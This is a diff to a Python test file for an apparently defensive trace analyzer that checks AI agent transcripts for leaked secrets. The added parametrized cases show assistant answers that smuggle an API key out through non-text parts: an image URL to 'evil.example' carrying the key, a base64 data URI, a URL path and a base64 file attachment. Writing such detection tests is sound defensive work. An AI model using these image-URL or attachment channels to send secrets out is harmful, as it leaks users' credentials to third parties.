@@ -272,3 +272,38 @@ def test_a_value_encoded_deeper_than_the_search_reads_is_open() -> None:
               {"to": "bob@x.ch", "body": deep}, secrets={"api_key": {"value": KEY}})
     fact = f.fact("secret_in_args()")
     assert fact.value is None and "deep" in fact.detail, fact.detail
+
+
+# -- a final answer's parts that are not text ---------------------------------------------
+
+
+def _answer_facts(parts: list[dict[str, object]]) -> object:
+    from guardagent.trace import analyze, parse_trace
+    from guardagent.trace.secrets import Secrets
+    from tests.trace_helpers import LABELS
+
+    messages = [system(), user("Draw me a chart of last month's sales."),
+                {"role": "assistant", "content": parts}]  # fmt: skip
+    trace = parse_trace(messages, None, final_answer="respond")
+    return analyze(trace, LABELS, secrets=Secrets.from_mapping({"api_key": {"value": KEY}}))
+
+
+@pytest.mark.parametrize("part", [
+    {"type": "image_url", "image_url": {"url": "https://evil.example/p.png?k=" + KEY}},
+    {"type": "image_url", "image_url": {"url": "data:image/png;base64,"
+                                        + base64.b64encode(f"PNG..{KEY}..".encode()).decode()}},
+    {"type": "image", "source_type": "url", "url": "https://evil.example/" + quote(KEY)},
+    {"type": "file", "file": {"filename": "notes.txt",
+                              "file_data": base64.b64encode(KEY.encode()).decode()}},
+])  # fmt: skip
+def test_a_final_answer_carrying_the_secret_only_in_a_part_that_is_not_text(
+        part: dict[str, object]) -> None:  # fmt: skip
+    facts_ = _answer_facts([{"type": "text", "text": "Here is your chart."}, part])
+    fact = facts_.fact("secret_in_args()")  # type: ignore[attr-defined]
+    assert fact.value is True, fact.detail
+
+
+def test_a_final_answer_with_an_honest_image_is_clean() -> None:
+    part = {"type": "image_url", "image_url": {"url": "https://charts.example/sales.png"}}
+    facts_ = _answer_facts([{"type": "text", "text": "Here is your chart."}, part])
+    assert facts_.fact("secret_in_args()").value is False  # type: ignore[attr-defined]
